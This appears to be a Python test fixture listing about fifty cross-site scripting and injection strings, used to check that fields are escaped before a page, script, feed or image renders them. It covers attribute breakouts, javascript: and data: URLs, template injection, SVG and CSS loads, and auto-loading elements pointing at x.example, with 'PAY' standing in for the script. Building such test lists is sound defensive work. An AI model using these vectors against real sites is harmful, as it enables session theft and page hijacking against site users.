"""Texts for fields that are no Markdown: each leaves the place where a page, a script, a feed or an image puts it, if that forgets to escape; `PAY` stands for the script."""

from __future__ import annotations

VECTORS = [
    # out of an element or attribute
    "'\"></a></td></title></textarea></style></script><script>PAY</script>",
    "x' onfocus='PAY' autofocus tabindex=0 y='",
    'x" onpointerover="PAY" style="display:block" y="',
    "` onmouseenter=`PAY` x=`",
    "x onclick=PAY",
    "--><script>PAY</script><!--",
    "]]><script>PAY</script><![CDATA[",
    "&lt;script&gt;PAY&lt;/script&gt;",
    "&#60;img src=1 onerror=PAY&#62;",
    "<scr\x00ipt>PAY</scr\x00ipt>",
    "<img/src=1/onerror=PAY>",
    "<input onbeforetoggle=PAY popover id=p><button popovertarget=p>x</button>",
    "<xss contenteditable onbeforeinput=PAY oncontentvisibilityautostatechange=PAY style=content-visibility:auto>",
    # out of a string of a script, or of JSON inside of one
    "</script><script>PAY</script>",
    "<!--<script>PAY",
    '"); PAY; S("',
    "'-PAY-'",
    '\\"-PAY}//',
    "\u2028PAY\u2029",
    "${PAY}",
    "{{constructor.constructor('PAY')()}}",
    "{% include 'base.html' %}{{ self.__init__ }}",
    # names that objects of a script have already
    "__proto__",
    "constructor",
    "toString",
    # addresses
    "javascript:PAY",
    "JAVASCRIPT&colon;PAY",
    " \tjava\nscript:PAY",
    "data:text/html,<script>PAY</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='PAY'/>",
    "blob:null/PAY",
    "//x.example/a.js",
    'https://x.example/"onfocus=PAY autofocus x="',
    "https://user:word@x.example/a",
    "https://[x/a",
    "../../../x.html?q=<script>PAY</script>#<script>PAY</script>",
    # styles and images
    "red;background:url(https://x.example/a.png)",
    "</style><style>@import url(https://x.example/a.css);",
    'url(#x)" filter="url(https://x.example/f.svg#f)',
    "</text></svg><svg onload=PAY>",
    "<use href='data:image/svg+xml,<svg id=x><image href=1 onerror=PAY /></svg>#x'/>",
    "<animate attributeName=href values=javascript:PAY /><set attributeName=onclick to=PAY />",
    # elements that load, send or lead away by themselves
    "<link rel=prefetch href=https://x.example/><meta http-equiv=refresh content='0;url=https://x.example/'>",
    "<iframe srcdoc='<script>parent.PAY</script>' src=https://x.example/></iframe>",
    "<form id=location action=https://x.example/><input name=href><button autofocus>x</button></form>",
    "<a id=S href=https://x.example/ ping=https://x.example/p></a><img name=SiteData>",
    "<base href=https://x.example/><object data=a.js></object>",
    "<video poster=https://x.example/p.png autoplay onerror=PAY><source src=1></video>",
    "<template shadowrootmode=open><slot onslotchange=PAY></slot></template>",
]
